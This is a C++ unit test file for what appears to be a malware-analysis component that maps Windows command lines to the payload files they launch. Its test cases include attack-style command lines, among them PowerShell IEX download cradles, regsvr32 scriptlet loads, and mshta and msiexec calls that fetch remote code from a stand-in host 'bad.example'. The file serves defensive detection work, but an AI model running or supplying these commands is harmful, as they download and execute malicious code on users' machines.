// Command lines against the files they run: each host program's forms, quoted and bare,
// nested command interpreters, addresses and inline scripts, 32-bit hosts, relative
// payloads with and without a current folder, and where bare program names are found.

#include <gtest/gtest.h>

#include "core/engine/command_line_file.h"
#include "tests/fakes/fake_activity_log.h"
#include "tests/fakes/fake_environment.h"
#include "tests/fakes/fake_files.h"
#include "tests/fakes/fake_processes.h"
#include "tests/fakes/fake_registry.h"

namespace zc {
namespace {

constexpr int32_t kHklm = fakes::kHkeyLocalMachine;
constexpr int32_t kHkcu = fakes::kHkeyCurrentUser;

// Every length asked for, so that a test can tell that no relative name (which Windows
// would look for in this program's own current folder) ever reached the file system.
class AskedFiles : public fakes::FakeFiles {
 public:
  std::vector<Text> asked;
  std::optional<int64_t> FileLength(TextView path) override {
    asked.emplace_back(path);
    return FakeFiles::FileLength(path);
  }
};

struct Machine {
  AskedFiles files;
  fakes::FakeEnvironment environment;
  fakes::FakeProcesses processes;
  fakes::FakeRegistry registry;
  fakes::FakeFailureReporter reporter;
  ConstantTexts texts{reporter};
  CommandLineFiles lines{texts, files, environment, processes, registry};

  void AddFileWithFolders(TextView path) {
    for (size_t cut = path.find(u'\\', 3); cut != TextView::npos; cut = path.find(u'\\', cut + 1))
      if (!files.IsFolder(path.substr(0, cut))) files.AddFolder(path.substr(0, cut));
    files.AddFile(path);
  }

  Machine() {
    for (const char16_t* host :
         {u"rundll32.exe", u"regsvr32.exe", u"wscript.exe", u"cscript.exe", u"mshta.exe", u"cmd.exe",
          u"msiexec.exe", u"schtasks.exe", u"forfiles.exe", u"cmstp.exe", u"control.exe", u"svchost.exe",
          u"odbcconf.exe", u"ping.exe", u"WindowsPowerShell\\v1.0\\powershell.exe", u"url.dll", u"shell32.dll",
          u"advpack.dll", u"zipfldr.dll", u"scrobj.dll", u"evil32.dll", u"drivers\\root.sys"}) {
      AddFileWithFolders(u"C:\\Windows\\System32\\" + Text(host));
    }
    for (const char16_t* host : {u"rundll32.exe", u"cscript.exe", u"regsvr32.exe", u"wow.dll", u"shell32.dll"})
      AddFileWithFolders(u"C:\\Windows\\SysWOW64\\" + Text(host));
    for (const char16_t* file :
         {u"C:\\Windows\\explorer.exe", u"C:\\Windows\\Microsoft.NET\\svc.exe",
          u"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe",
          u"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe",
          u"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegSvcs.exe",
          u"C:\\Program Files\\Java\\bin\\javaw.exe",
          u"C:\\Program Files\\Java\\bin\\java.exe", u"C:\\Program Files\\PowerShell\\7\\pwsh.exe",
          u"C:\\Program Files\\nodejs\\node.exe", u"C:\\Program Files\\AutoIt3\\AutoIt3.exe",
          u"C:\\Program Files\\AutoHotkey\\AutoHotkeyU64.exe", u"C:\\Python312\\python.exe",
          u"C:\\Python312\\pythonw.exe", u"C:\\Program Files\\Good Tool\\tool.exe", u"C:\\SysPath\\syssvc.exe",
          u"C:\\UserPath\\userprog.exe", u"C:\\Users\\u\\My Files\\run.exe", u"C:\\Users\\u\\My.exe",
          u"C:\\Users\\u\\My Files\\b.dll",
          u"C:\\bot\\shell32.dll", u"C:\\work\\rel.dll", u"C:\\work\\rel.vbs", u"C:\\work\\rel.exe",
          u"C:\\work\\sub\\deep.exe", u"C:\\x\\mal.exe"}) {
      AddFileWithFolders(file);
    }
    for (const char16_t* payload :
         {u"evil.dll", u"evil.exe", u"a.vbs", u"a.js", u"a.hta", u"a.ps1", u"rat.jar", u"a.py", u"a.au3", u"a.ahk",
          u"a.inf", u"a.cpl", u"a.sct", u"a.msi", u"asm.dll", u"a.bat"}) {
      AddFileWithFolders(u"C:\\Users\\u\\AppData\\Roaming\\x\\" + Text(payload));
    }
    registry.SetText(kHklm, u"SYSTEM\\CurrentControlSet\\Services\\EvilHost\\Parameters", u"ServiceDll",
                     u"%SystemRoot%\\System32\\evil32.dll", 2);
    registry.SetText(kHklm, u"Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\tool.exe", u"",
                     u"\"C:\\Program Files\\Good Tool\\tool.exe\"");
    registry.SetText(kHkcu, u"Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\userapp.exe", u"",
                     u"%ProgramFiles%\\Java\\bin\\java.exe");
    registry.SetText(kHklm, u"SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Environment", u"Path",
                     u"%SystemRoot%\\System32;.;\"C:\\SysPath\"", 2);
    // An App Paths value that is no full path, and a file of that name where this
    // program's own current folder would find it.
    registry.SetText(kHklm, u"Software\\Microsoft\\Windows\\CurrentVersion\\App Paths\\relapp.exe", u"",
                     u"relapp.exe");
    files.AddFile(u"relapp.exe");
    environment.variables[u"path"] =
        u"C:\\Windows\\System32;relative\\dir;C:\\UserPath;C:\\Windows\\System32\\WindowsPowerShell\\v1.0";
  }
};

constexpr StartedBy kShell = StartedBy::Shell;
constexpr StartedBy kService = StartedBy::ServiceManager;
constexpr StartedBy kProcess = StartedBy::Process;

struct Case {
  const char16_t* line;
  StartedBy startedBy;
  const char16_t* service;
  const char16_t* currentFolder;
  const char16_t* files;  // the files in order, joined by "|"; empty: none
  const char16_t* host;   // empty: no host
  bool dllHost;
  bool notIdentified;
};

#define X u"C:\\Users\\u\\AppData\\Roaming\\x\\"
#define S32 u"C:\\Windows\\System32\\"
#define WOW u"C:\\Windows\\SysWOW64\\"

const Case kCases[] = {
    // Programs that run no other file are the file themselves.
    {X u"evil.exe /background", kShell, u"", u"", X u"evil.exe", u"", false, false},
    {u"\"C:\\x\\gone.exe\" C:\\x\\mal.exe", kShell, u"", u"", u"", u"", false, false},  // an argument is no file
    // The DLL host: path,entry, quoted or not, blanks before the comma, any letter case, bare or full.
    {S32 u"rundll32.exe " X u"evil.dll,Start", kShell, u"", u"", X u"evil.dll", S32 u"rundll32.exe", true, false},
    {u"rundll32.exe \"" X u"evil.dll\",Start 123", kShell, u"", u"", X u"evil.dll", S32 u"rundll32.exe", true, false},
    {u"RUNDLL32 " X u"evil.dll ,Start", kShell, u"", u"", X u"evil.dll", S32 u"rundll32.exe", true, false},
    {u"rundll32.exe \"%APPDATA%\\x\\evil.dll\",#1", kShell, u"", u"", X u"evil.dll", S32 u"rundll32.exe", true,
     false},
    {u"rundll32.exe C:\\Users\\u\\My Files\\b.dll,Entry", kShell, u"", u"", u"C:\\Users\\u\\My Files\\b.dll",
     S32 u"rundll32.exe", true, false},
    {u"rundll32 evil32,Run", kShell, u"", u"", S32 u"evil32.dll", S32 u"rundll32.exe", true, false},
    {WOW u"rundll32.exe wow.dll,Start", kShell, u"", u"", WOW u"wow.dll", WOW u"rundll32.exe", true, false},
    {u"rundll32.exe gone.dll,Start", kShell, u"", u"", u"", S32 u"rundll32.exe", false, true},
    {u"rundll32.exe", kShell, u"", u"", u"", S32 u"rundll32.exe", false, true},
    // Its second level: Windows' own DLL runs the payload.
    {u"rundll32.exe url.dll,FileProtocolHandler " X u"evil.exe", kShell, u"", u"", X u"evil.exe",
     S32 u"rundll32.exe", false, false},
    {u"rundll32 url.dll,FileProtocolHandler https://bad.example/x.exe", kShell, u"", u"", u"", S32 u"rundll32.exe",
     false, true},
    {u"rundll32.exe SHELL32.DLL,ShellExec_RunDLL \"" X u"evil.exe\" /q", kShell, u"", u"", X u"evil.exe",
     S32 u"rundll32.exe", false, false},
    {u"rundll32 shell32,ShellExec_RunDLL wscript.exe //B " X u"a.vbs", kShell, u"", u"", X u"a.vbs",
     S32 u"rundll32.exe", false, false},
    {u"rundll32.exe shell32.dll,Control_RunDLL " X u"a.cpl,@0", kShell, u"", u"", X u"a.cpl", S32 u"rundll32.exe",
     true, false},
    {u"rundll32 advpack.dll,LaunchINFSection " X u"a.inf,DefaultInstall", kShell, u"", u"", X u"a.inf",
     S32 u"rundll32.exe", false, false},
    {u"rundll32.exe zipfldr.dll,RouteTheCall " X u"evil.exe", kShell, u"", u"", X u"evil.exe", S32 u"rundll32.exe",
     false, false},
    {WOW u"rundll32.exe shell32.dll,ShellExec_RunDLL " X u"evil.exe", kShell, u"", u"", X u"evil.exe",
     WOW u"rundll32.exe", false, false},
    {u"rundll32 C:\\bot\\shell32.dll,ShellExec_RunDLL " X u"evil.exe", kShell, u"", u"", u"C:\\bot\\shell32.dll",
     S32 u"rundll32.exe", true, false},  // a DLL named like Windows' own, elsewhere, is the payload
    // The COM registrar.
    {u"regsvr32 /s " X u"evil.dll", kShell, u"", u"", X u"evil.dll", S32 u"regsvr32.exe", true, false},
    {S32 u"regsvr32.exe /s /n /u /i:http://bad.example/a.sct scrobj.dll", kShell, u"", u"", u"",
     S32 u"regsvr32.exe", false, true},
    {u"regsvr32 /s /n /i:" X u"a.sct scrobj.dll", kShell, u"", u"", X u"a.sct", S32 u"regsvr32.exe", false, false},
    {u"regsvr32 /s /i:" X u"a.sct " X u"evil.dll", kShell, u"", u"", X u"evil.dll|" X u"a.sct",
     S32 u"regsvr32.exe", true, false},
    // The script hosts.
    {u"wscript.exe //B //Nologo \"" X u"a.vbs\" arg", kShell, u"", u"", X u"a.vbs", S32 u"wscript.exe", false, false},
    {WOW u"CScript.exe //E:jscript " X u"a.js", kShell, u"", u"", X u"a.js", WOW u"cscript.exe", false, false},
    {u"mshta.exe " X u"a.hta", kShell, u"", u"", X u"a.hta", S32 u"mshta.exe", false, false},
    {u"mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"x\"\"\")(window.close)", kShell, u"",
     u"", u"", S32 u"mshta.exe", false, true},
    {u"mshta.exe javascript:a=1;close()", kShell, u"", u"", u"", S32 u"mshta.exe", false, true},
    {u"mshta https://bad.example/a.hta", kShell, u"", u"", u"", S32 u"mshta.exe", false, true},
    // The command interpreter: its switches, quote rule, start, call and chains.
    {u"cmd /c start \"\" " X u"evil.exe", kShell, u"", u"", X u"evil.exe", S32 u"cmd.exe", false, false},
    {u"cmd.exe /q /c \"" X u"evil.exe\" -a", kShell, u"", u"", X u"evil.exe", S32 u"cmd.exe", false, false},
    {u"cmd /c \"C:\\Users\\u\\My Files\\run.exe\"", kShell, u"", u"", u"C:\\Users\\u\\My Files\\run.exe",
     S32 u"cmd.exe", false, false},
    {u"cmd /s /c \"\"C:\\Users\\u\\My Files\\run.exe\" -x\"", kShell, u"", u"", u"C:\\Users\\u\\My Files\\run.exe",
     S32 u"cmd.exe", false, false},
    {u"cmd /d /k \"\"C:\\Users\\u\\My Files\\run.exe\" \"" X u"a.vbs\"\"", kShell, u"", u"",
     u"C:\\Users\\u\\My Files\\run.exe", S32 u"cmd.exe", false, false},
    {u"cmd /c ping 127.0.0.1 -n 3 > nul 2>&1 && start \"\" /d \"C:\\Users\\u\\AppData\\Roaming\\x\" evil.exe || "
     u"del " X u"a.vbs",
     kShell, u"", u"", X u"evil.exe", S32 u"cmd.exe", false, false},
    {u"cmd /c (echo x & " X u"evil.exe) | more", kShell, u"", u"", X u"evil.exe", S32 u"cmd.exe", false, false},
    {u"cmd /c cmd /c \"start /b /min " X u"evil.exe\"", kShell, u"", u"", X u"evil.exe", S32 u"cmd.exe", false,
     false},
    {u"cmd /r call " X u"a & rundll32 " X u"evil.dll,S", kShell, u"", u"", X u"a.bat|" X u"evil.dll", S32 u"cmd.exe",
     false, false},
    {u"cmd /c echo hello ^& " X u"evil.exe", kShell, u"", u"", u"", S32 u"cmd.exe", false, true},
    {u"cmd /c start \"\" evil.exe", kShell, u"", u"", u"", S32 u"cmd.exe", false, true},  // no current folder
    {u"cmd.exe", kShell, u"", u"", u"", S32 u"cmd.exe", false, true},
    {u"cmd /c start \"\" rel.exe", kProcess, u"", u"C:\\work", u"C:\\work\\rel.exe", S32 u"cmd.exe", false, false},
    {u"cmd /c start \"\" /d sub deep", kProcess, u"", u"C:\\work", u"C:\\work\\sub\\deep.exe", S32 u"cmd.exe", false,
     false},
    // PowerShell.
    {u"powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File " X u"a.ps1", kShell, u"", u"", X u"a.ps1",
     S32 u"WindowsPowerShell\\v1.0\\powershell.exe", false, false},
    {u"powershell -ep bypass -f \"" X u"a.ps1\"", kShell, u"", u"", X u"a.ps1",
     S32 u"WindowsPowerShell\\v1.0\\powershell.exe", false, false},
    {u"powershell -fi " X u"a.ps1", kShell, u"", u"", X u"a.ps1", S32 u"WindowsPowerShell\\v1.0\\powershell.exe",
     false, false},
    {u"powershell /FIL " X u"a.ps1", kShell, u"", u"", X u"a.ps1", S32 u"WindowsPowerShell\\v1.0\\powershell.exe",
     false, false},
    {u"powershell -c \"& '" X u"a.ps1'\"", kShell, u"", u"", u"", S32 u"WindowsPowerShell\\v1.0\\powershell.exe",
     false, true},
    {u"powershell -NoProfile -Command IEX(New-Object Net.WebClient).DownloadString('http://bad.example')", kShell,
     u"", u"", u"", S32 u"WindowsPowerShell\\v1.0\\powershell.exe", false, true},
    {u"powershell -e SQBFAFgA", kShell, u"", u"", u"", S32 u"WindowsPowerShell\\v1.0\\powershell.exe", false, true},
    {u"powershell -ec SQBFAFgA", kShell, u"", u"", u"", S32 u"WindowsPowerShell\\v1.0\\powershell.exe", false,
     true},
    {u"powershell -WindowStyle Hidden -enc SQBFAFgA", kShell, u"", u"", u"",
     S32 u"WindowsPowerShell\\v1.0\\powershell.exe", false, true},
    {u"powershell -EncodedCommand SQBFAFgA", kShell, u"", u"", u"", S32 u"WindowsPowerShell\\v1.0\\powershell.exe",
     false, true},
    {u"powershell " X u"a.ps1", kShell, u"", u"", u"", S32 u"WindowsPowerShell\\v1.0\\powershell.exe", false, true},
    {u"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo " X u"a.ps1", kShell, u"", u"", X u"a.ps1",
     u"C:\\Program Files\\PowerShell\\7\\pwsh.exe", false, false},
    {u"\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -Command Get-Date", kShell, u"", u"", u"",
     u"C:\\Program Files\\PowerShell\\7\\pwsh.exe", false, true},
    // The installer, the task tool, forfiles.
    {u"msiexec /y " X u"evil.dll", kShell, u"", u"", X u"evil.dll", S32 u"msiexec.exe", true, false},
    {u"msiexec.exe /z " X u"evil.dll", kShell, u"", u"", X u"evil.dll", S32 u"msiexec.exe", true, false},
    {u"msiexec /i https://bad.example/a.msi /qn", kShell, u"", u"", u"", S32 u"msiexec.exe", false, true},
    {u"msiexec /i " X u"a.msi /qn", kShell, u"", u"", X u"a.msi", S32 u"msiexec.exe", false, false},
    {u"schtasks /create /sc onlogon /tn Upd /tr \"rundll32 " X u"evil.dll,Start\"", kShell, u"", u"",
     X u"evil.dll", S32 u"schtasks.exe", false, false},
    {u"schtasks /create /tn Upd /tr \"\\\"C:\\Users\\u\\My Files\\run.exe\\\" -x\"", kShell, u"", u"",
     u"C:\\Users\\u\\My Files\\run.exe", S32 u"schtasks.exe", false, false},
    {u"forfiles /p C:\\Windows /m win.ini /c \"cmd /c start 0x220x22 " X u"evil.exe\"", kShell, u"", u"",
     X u"evil.exe", S32 u"forfiles.exe", false, false},
    {u"forfiles /p C:\\work /m *.txt /c \"cmd /c rel.exe\"", kShell, u"", u"", u"C:\\work\\rel.exe",
     S32 u"forfiles.exe", false, false},
    // The runtimes.
    {u"\"C:\\Program Files\\Java\\bin\\javaw.exe\" -jar " X u"rat.jar", kShell, u"", u"", X u"rat.jar",
     u"C:\\Program Files\\Java\\bin\\javaw.exe", false, false},
    {u"C:\\Program Files\\Java\\bin\\java.exe -Xmx1g -cp C:\\x -jar \"" X u"rat.jar\" a", kShell, u"", u"",
     X u"rat.jar", u"C:\\Program Files\\Java\\bin\\java.exe", false, false},
    {u"javaw -cp " X u"rat.jar Main", kShell, u"", u"", u"", u"", false, true},  // not found; a class runs
    {u"userapp -jar " X u"rat.jar", kShell, u"", u"", X u"rat.jar", u"C:\\Program Files\\Java\\bin\\java.exe",
     false, false},  // through the user's App Paths
    {u"C:\\Python312\\pythonw.exe " X u"a.py", kShell, u"", u"", X u"a.py", u"C:\\Python312\\pythonw.exe", false,
     false},
    {u"C:\\Python312\\python.exe -u -W ignore " X u"a.py", kShell, u"", u"", X u"a.py",
     u"C:\\Python312\\python.exe", false, false},
    {u"C:\\Python312\\python.exe -c \"import os\"", kShell, u"", u"", u"", u"C:\\Python312\\python.exe", false, true},
    {u"C:\\Python312\\python.exe -m http.server", kShell, u"", u"", u"", u"C:\\Python312\\python.exe", false, true},
    {u"\"C:\\Program Files\\nodejs\\node.exe\" --no-warnings " X u"a.js", kShell, u"", u"", X u"a.js",
     u"C:\\Program Files\\nodejs\\node.exe", false, false},
    {u"\"C:\\Program Files\\nodejs\\node.exe\" -e \"require('x')\"", kShell, u"", u"", u"",
     u"C:\\Program Files\\nodejs\\node.exe", false, true},
    {u"\"C:\\Program Files\\AutoIt3\\AutoIt3.exe\" /ErrorStdOut " X u"a.au3", kShell, u"", u"", X u"a.au3",
     u"C:\\Program Files\\AutoIt3\\AutoIt3.exe", false, false},
    {u"\"C:\\Program Files\\AutoHotkey\\AutoHotkeyU64.exe\" /restart " X u"a.ahk", kShell, u"", u"", X u"a.ahk",
     u"C:\\Program Files\\AutoHotkey\\AutoHotkeyU64.exe", false, false},
    // Explorer, the connection-profile installer, the .NET registrars, odbcconf, control.
    {u"explorer.exe " X u"evil.exe", kShell, u"", u"", X u"evil.exe", u"C:\\Windows\\explorer.exe", false, false},
    {u"explorer.exe shell:startup", kShell, u"", u"", u"", u"C:\\Windows\\explorer.exe", false, true},
    {u"cmstp.exe /ni /s " X u"a.inf", kShell, u"", u"", X u"a.inf", S32 u"cmstp.exe", false, false},
    {u"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe /codebase " X u"asm.dll", kShell, u"", u"",
     X u"asm.dll", u"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe", false, false},
    {u"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /U " X u"asm.dll", kShell,
     u"", u"", X u"asm.dll", u"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", false, false},
    {u"odbcconf.exe /s /a {REGSVR " X u"evil.dll}", kShell, u"", u"", X u"evil.dll", S32 u"odbcconf.exe", true,
     false},
    {u"odbcconf -a {regsvr \"C:\\Users\\u\\My Files\\b.dll\"}", kShell, u"", u"", u"C:\\Users\\u\\My Files\\b.dll",
     S32 u"odbcconf.exe", true, false},
    {u"control.exe " X u"a.cpl", kShell, u"", u"", X u"a.cpl", S32 u"control.exe", false, false},
    {u"control /name Microsoft.System", kShell, u"", u"", u"", S32 u"control.exe", false, true},
    // The shared service host runs its service's DLL, never itself; the kernel's forms of a driver.
    {u"C:\\WINDOWS\\system32\\SVCHOST.EXE -k netsvcs", kService, u"EvilHost", u"", S32 u"evil32.dll",
     u"C:\\WINDOWS\\system32\\SVCHOST.EXE", true, false},
    {u"svchost.exe -k netsvcs -p -s EvilHost", kProcess, u"", u"", S32 u"evil32.dll", S32 u"svchost.exe", true,
     false},
    {u"%SystemRoot%\\System32\\svchost.exe -k netsvcs", kService, u"NoDll", u"", u"", S32 u"svchost.exe", false,
     true},
    {u"System32\\DRIVERS\\root.sys", kService, u"x", u"", u"C:\\Windows\\System32\\DRIVERS\\root.sys", u"", false,
     false},
    {u"\\systemroot\\system32\\drivers\\root.sys", kService, u"x", u"", u"C:\\Windows\\system32\\drivers\\root.sys",
     u"", false, false},
    {u"C:\\Windows\\Microsoft.NET\\svc /q", kService, u"x", u"", u"C:\\Windows\\Microsoft.NET\\svc.exe", u"", false,
     false},
    // Bare names where each starter looks: App Paths and the user's PATH for the shell; the
    // system PATH, never App Paths, for the service manager; never a current folder.
    {u"tool --tray", kShell, u"", u"", u"C:\\Program Files\\Good Tool\\tool.exe", u"", false, false},
    {u"tool --tray", kService, u"x", u"", u"", u"", false, false},
    {u"userprog.exe", kShell, u"", u"", u"C:\\UserPath\\userprog.exe", u"", false, false},
    {u"userprog.exe", kService, u"x", u"", u"", u"", false, false},
    {u"syssvc.exe -service", kService, u"x", u"", u"C:\\SysPath\\syssvc.exe", u"", false, false},
    {u"syssvc.exe", kShell, u"", u"", u"", u"", false, false},
    {u"rel.exe", kShell, u"", u"", u"", u"", false, false},
    {u"relapp", kShell, u"", u"", u"", u"", false, false},
    // A running process: relative payloads against its current folder, else only full paths.
    {u"rundll32.exe rel.dll,Go", kProcess, u"", u"C:\\work", u"C:\\work\\rel.dll", S32 u"rundll32.exe", true, false},
    {u"rundll32.exe rel.dll,Go", kShell, u"", u"", u"", S32 u"rundll32.exe", false, true},
    {u"\"C:\\Windows\\System32\\wscript.exe\" sub\\..\\rel.vbs", kProcess, u"", u"C:\\work\\", u"C:\\work\\rel.vbs",
     S32 u"wscript.exe", false, false},
    {u"wscript.exe rel.vbs", kShell, u"", u"", u"", S32 u"wscript.exe", false, true},
    {u"rel.exe", kProcess, u"", u"C:\\work", u"C:\\work\\rel.exe", u"", false, false},
};

#undef X
#undef S32
#undef WOW

Text Joined(const std::vector<Text>& files) {
  Text joined;
  for (const Text& file : files) joined += (joined.empty() ? Text() : Text(u"|")) + file;
  return joined;
}

TEST(CommandTargetTest, EachHostFormLeadsToItsPayloadAndNeverToTheHost) {
  Machine machine;
  for (const Case& c : kCases) {
    CommandContext context;
    context.startedBy = c.startedBy;
    context.serviceName = c.service;
    context.currentFolder = c.currentFolder;
    const CommandTarget target = machine.lines.TargetOf(c.line, context);
    SCOPED_TRACE(ToUtf8(c.line));
    EXPECT_EQ(ToUtf8(Joined(target.files)), ToUtf8(c.files));
    EXPECT_EQ(ToUtf8(FoldCase(target.host)), ToUtf8(FoldCase(c.host)));
    EXPECT_EQ(target.dllHost, c.dllHost);
    EXPECT_EQ(target.payloadNotIdentified, c.notIdentified);
  }
  // Only full paths were asked about: a relative one would be looked for in this
  // program's own current folder.
  for (const Text& path : machine.files.asked) {
    const bool full = (path.size() >= 3 && path[1] == u':' && path[2] == u'\\') || path.substr(0, 2) == u"\\\\";
    EXPECT_TRUE(full) << ToUtf8(path);
  }
}

TEST(CommandTargetTest, CommandsRunByCommandsAreFollowedEightDeep) {
  Machine machine;
  const Text payload = u"C:\\Users\\u\\AppData\\Roaming\\x\\evil.exe";
  Text eight = payload, nine = payload;
  for (int i = 0; i < 8; ++i) eight = u"cmd /c " + eight;
  for (int i = 0; i < 9; ++i) nine = u"cmd /c " + nine;
  EXPECT_EQ(ToUtf8(Joined(machine.lines.TargetOf(eight, {}).files)), ToUtf8(payload));
  const CommandTarget tooDeep = machine.lines.TargetOf(nine, {});
  EXPECT_TRUE(tooDeep.files.empty());
  EXPECT_TRUE(tooDeep.payloadNotIdentified);
}

TEST(CommandTargetTest, AHostInOurOwnCurrentFolderIsNotWhereWindowsLooks) {
  // rundll32.exe exists only as a relative name (as a file in this program's current
  // folder would): a bare rundll32 is looked for in System32, the Windows folder and
  // the search path, so no file is the host; the payload is still found.
  Machine machine;
  machine.files.entries.erase(FoldCase(u"C:\\Windows\\System32\\rundll32.exe"));
  machine.files.AddFile(u"rundll32.exe");
  const CommandTarget target =
      machine.lines.TargetOf(u"rundll32.exe C:\\Users\\u\\AppData\\Roaming\\x\\evil.dll,Start", {});
  EXPECT_EQ(ToUtf8(Joined(target.files)), "C:\\Users\\u\\AppData\\Roaming\\x\\evil.dll");
  EXPECT_EQ(ToUtf8(target.host), "");
}

TEST(CommandTargetTest, CutAndMangledLinesGiveOnlyExistingFullPaths) {
  // A bot writes its own autorun value: every cut of every line above, and each with a
  // stray quote, caret or parenthesis added, is read to its end without a fault, and
  // whatever it leads to is an existing file named by a full path.
  Machine machine;
  std::vector<Text> lines = {u"cmd /c \"", u"cmd /c ^", u"cmd /c (((", u"cmd /c )))", u"rundll32 ,",
                             u"rundll32 \",\"", u"regsvr32 /i:", u"powershell -", u"forfiles /c 0x", u"start \"\" /d",
                             u"odbcconf {regsvr", u"cmd /s /c \"\"", u"schtasks /tr", u"cmd /c start \"\" /d"};
  for (const Case& c : kCases) {
    const Text line(c.line);
    for (size_t cut = 0; cut <= line.size(); ++cut) lines.push_back(line.substr(0, cut));
    for (const char16_t* tail : {u"\"", u"^", u"(", u")", u",", u" /c \""}) lines.push_back(line + tail);
  }
  const StartedBy starters[] = {kShell, kService, kProcess};
  for (size_t i = 0; i < lines.size(); ++i) {
    CommandContext context;
    context.startedBy = starters[i % 3];
    context.serviceName = u"EvilHost";
    context.currentFolder = u"C:\\work";
    const CommandTarget target = machine.lines.TargetOf(lines[i], context);
    for (const Text& file : target.files) {
      EXPECT_TRUE(file.size() > 3 && file[1] == u':' && file[2] == u'\\') << ToUtf8(lines[i]) << " -> " << ToUtf8(file);
      EXPECT_TRUE(machine.files.IsFile(file)) << ToUtf8(lines[i]) << " -> " << ToUtf8(file);
    }
  }
}

}  // namespace
}  // namespace zc
